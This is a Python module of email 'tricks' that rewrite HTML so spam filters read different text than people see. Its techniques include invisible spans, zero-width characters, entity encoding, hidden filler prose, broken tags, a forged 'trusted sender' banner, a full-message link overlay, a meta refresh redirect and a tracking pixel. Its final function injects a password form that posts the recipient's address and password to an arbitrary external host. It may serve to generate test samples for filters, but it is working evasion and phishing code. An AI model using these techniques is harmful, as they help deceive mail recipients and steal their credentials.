"""What is done to the HTML so that filters read something else than people do.  SPDX-License-Identifier: GPL-3.0-or-later

A trick takes the HTML and the mail and returns HTML.  Those that change words go over text between tags only."""
import re

from .wire import ALNUM, LOWER

INNOCENT = {
    "en": ["The bakery on the corner opens at six, and the first loaves are gone before seven.",
           "We walked along the canal until the rain began.",
           "Her grandfather kept the ledger of the harbour for forty years.",
           "A second coat of varnish should dry for at least a day.",
           "The choir meets on Thursdays in the room above the library.",
           "Nobody remembers who planted the pear tree behind the school.",
           "The ferry was late, so they shared the last of the tea.", "Please bring the blue folder and the keys of the shed."],
    "pt": ["O barco chegou ao cais quando já escurecia e ninguém o esperava.",
           "Minha avó guardava as cartas numa caixa de costura.",
           "A estrada de terra termina diante de uma capela branca.", "O professor falou dos rios e das cheias daquele ano.",
           "Ela abriu a janela e ficou a ouvir o mar.", "Os meninos correram atrás da bola até o fim da rua."],
    "de": ["Der Zug hielt an einem Bahnhof, dessen Namen niemand kannte.", "Im Garten hinter der Mühle blühen die Quitten.",
           "Sie legte das Buch zur Seite und hörte dem Regen zu.", "Die Sitzung des Vereins beginnt wie immer um acht."],
}
TAGS = re.compile(r"(<style.*?</style>|<[^>]*>)", re.S)


def innocent(m, count=8):
    sentences = INNOCENT.get(m.lang, INNOCENT["en"])
    return " ".join(m.draw.of(sentences) for _ in range(count))


def over_text(html, change):
    """The HTML with each stretch of text in its body changed."""
    head, mark, body = html.partition("<body")
    if not mark:
        head, body = "", html
    pieces = TAGS.split(mark + body)
    return head + "".join(piece if i % 2 else change(piece) for i, piece in enumerate(pieces))


def each_word(html, change, every=2):
    count = [0]

    def one(match):
        count[0] += 1
        return change(match.group()) if count[0] % every == 0 else match.group()

    return over_text(html, lambda text: re.sub(r"[^\W\d_]{5,}", one, text))


def before_body_end(html, addition):
    return html.replace("</body>", addition + "</body>") if "</body>" in html else html + addition


def spans_in_words(html, m):
    """Sentences of a novel in invisible spans in the middle of words."""
    style = m.draw.of(('visibility: hidden; position: absolute; font-size: 0;', 'display:none', 'font-size:0px;line-height:0',
                       'opacity:0;max-height:0;overflow:hidden;position:absolute'))
    return each_word(html, lambda w: f'{w[:2]}<span style="{style}">{innocent(m, 1)}</span>{w[2:]}')


def empty_tags(html, m):
    return each_word(html,
                     lambda w: w[:3] + m.draw.of(("<b></b>", "<i></i>", "<!-- " + m.draw.letters(9) + " -->", "<wbr>",
                                                  f"<x{m.draw.letters(4)}></x>")) + w[3:])


def zero_width(html, m):
    return each_word(html, lambda w: "\u200c".join(w))


def soft_hyphens(html, m):
    return each_word(html, lambda w: w[:2] + "&shy;" + w[2:4] + "&shy;" + w[4:], 1)


def entities(html, m):
    return each_word(html, lambda w: "".join(f"&#{ord(c)};" for c in w), 1)


def entities_hex(html, m):
    return each_word(html, lambda w: "".join(f"&#x{ord(c):04X};" if m.draw.number(2) else c for c in w), 1)


def reversed_words(html, m):
    """Words written backwards and turned round by style."""
    return each_word(html, lambda w: f'<span style="unicode-bidi:bidi-override;direction:rtl">{w[::-1]}</span>', 3)


def noise_in_words(html, m):
    """One-point letters of the background's colour."""
    return each_word(html,
                     lambda w: f'{w[:3]}<font color="#ffffff" size="1" style="font-size:1px">{m.draw.letters(3)}</font>{w[3:]}')


def faint_tokens(html, m):
    """Random tokens that are drawn without colour, at both ends of each stretch of text in a link."""
    def token():
        return f'<span style="opacity: 0;">{m.draw.letters(8, LOWER + "0123456789")}</span>'

    return re.sub(r"(<a\b[^>]*>(?:<font[^>]*>)?)([^<]+)", lambda a: f"{a.group(1)}\n    {token()} {a.group(2)} {token()}\n    ", html)


def story_below(html, m):
    """Long innocent text that is not shown, behind the message."""
    return before_body_end(html,
                           '<div style="display:none;max-height:0;overflow:hidden">' + " ".join(f"<p>{innocent(m, 12)}</p>" for _ in range(8)) + "</div>")


def story_white(html, m):
    return before_body_end(html,
                           '<table bgcolor="#ffffff" width="100%"><tr><td style="color:#ffffff;font-size:8px">' + innocent(m,
                                                                                                                           60) + "</td></tr></table>")


def story_tiny(html, m):
    return before_body_end(html, f'<p style="font-size:1px;color:#fefefe;line-height:1px">{innocent(m, 40)}</p>')


def story_far_below(html, m):
    """Hundreds of line breaks, then another mail."""
    return before_body_end(html, "<br>\n" * 260 + f"<p>{innocent(m, 20)}</p>")


def story_in_title(html, m):
    return re.sub(r"<title>.*?</title>", f"<title>{innocent(m, 10)}</title>",
                  html) if "<title>" in html else f"<title>{innocent(m, 10)}</title>" + html


def style_soup(html, m):
    """Words of other mails in a style element, which nobody shows."""
    return html + '\n<style type="text/css">' + ",\n\n".join(f"{m.draw.letters(4 + m.draw.number(8))} {m.draw.letters(4, '0123456789abcdef')}" for _ in range(220)) + "</style>\n"


def style_noise(html, m):
    return html + "\n<style>\n" + "\n<br>\n".join(m.draw.letters(200, ALNUM) for _ in range(14)) + "\n</style>\n"


def comments(html, m):
    return over_text(html, lambda text: text + f"<!-- {m.draw.letters(40, ALNUM)} -->" if len(text) > 12 else text)


def tag_soup(html, m):
    """Elements that open and never close, and some that there are none of."""
    names = ["acronym", "kbd", "tt", "figcaption", "thead", "noscript", "xml", "o:OfficeDocumentSettings", "area", "address",
             "frameset", "h6", "rt", "mark", "progress", "QXTRM", "OBJecT", "Select"]
    lines = "\n".join(f"<{name}>" * (1 + m.draw.number(9)) for name in (m.draw.of(names) for _ in range(90)))
    return before_body_end(html, f"<tfoot>\n<a>\n<q style=\"display:none\">\n{lines}\n")


def open_tag(html, m):
    """A tag that never ends, so that nothing behind it is shown."""
    rows = "\n".join("/".join(m.draw.letters(count, "0123456789abcdef") for count in (8, 4, 4, 4, 15)) for _ in range(180))
    return html.replace("</html>", "") + f"\n<thead hidden>\n<object>\n<a href\n\n{rows}\n\n</html>\n"


def escaped_rubbish(html, m):
    """Tags as text and one code over and over, in a title inside a block that is not shown."""
    code = f"{m.draw.letters(7, ALNUM)}.{m.draw.number(99999)}.{m.draw.number(999)}."
    return html.replace("</html>", "") + ("\n<object>\n<div style=\"display:none;\">\n<title>\n&lt;SeLect&gt;\n&lt;objEct&gt;\n"
                                          + "\n".join(code * (2 + i % 4) for i in range(24)) + "\n&lt;/tablE&gt;\n&lt;hEad&gt;\n")


def attributes(html, m):
    return re.sub(r"<(p|td|div|tr)\b",
                  lambda t: f'<{t.group(1)} id="{m.draw.letters(10)}" data-{m.draw.letters(4)}="{m.draw.letters(14, ALNUM)}"',
                  html)


def preheader(html, m):
    return html.replace(">", f'><div style="display:none">{m.lure_title}' + "\u200c&nbsp;" * 60 + "</div>",
                        1) if "<body" not in html else re.sub(
        r"(<body[^>]*>)", lambda b: b.group(1) + f'<div style="display:none">{m.lure_title}' + "\u200c&nbsp;" * 60 + "</div>",
                            html)


def trusted(html, m):
    """A banner that mail programs show, drawn by the sender."""
    banner = ('<div style="background-color:#f1f9f2;min-height:30px;font-size:12px"><div style="background-color:#56a659;width:5px;min-height:30px;position:absolute"></div>'
              "<span>This message is from a trusted sender.</span></div>\n")
    return banner + html


def rulers(html, m):
    return "<div>" + "_" * 130 + f"<br>Email {m.draw.letters(8, LOWER + '0123456789')}<br>" + html + f"<br>{m.draw.letters(8)}<br>" + "_" * 130 + "</div>"


def placeholders(html, m):
    """A template that was not filled in."""
    return html.replace("</p>", " {numero}{4} %RND3% </p>", 2).replace("</h1>", " __Ranodm_anm[10,s]</h1>")


def overlay(html, m):
    """One link over the whole mail."""
    return f'<div style="position:relative"><a href="{m.link}" style="position:absolute;top:0;left:0;width:100%;height:100%;z-index:1;text-decoration:none">\n</a>\n{html}</div>'


def pixel(html, m):
    return before_body_end(html,
                           f'\n<img alt="" src="http://{m.draw.letters(10)}.opens-count.com/op/{m.draw.number(9999)}_md/{m.draw.letters(20)}" width="1px" height="1px" style="visibility:hidden">\n')


def unsubscribe_by_mail(html, m):
    return html + ('<br><br>\n<span style="color:#888;font-size:11px;display:block;text-align:center"><a href="mailto:replyto@lake-house-sales.com">Unsubscribe</a>'
                   " from every list of ours with an empty answer</span>")


def base_href(html, m):
    """A base that turns harmless links round."""
    return f'<base href="{m.link.split("?")[0]}">' + html


def meta_refresh(html, m):
    return f'<meta http-equiv="refresh" content="0;url={m.link}">' + html


def form(html, m):
    host = m.draw.letters(12) + ".com"
    return before_body_end(html,
                           f'<form action="https://{host}/save.php" method="POST"><input type="hidden" name="e" value="{m.rcpt}">'
                           'Password: <input type="password" name="p"> <input type="submit" value="OK"></form>')
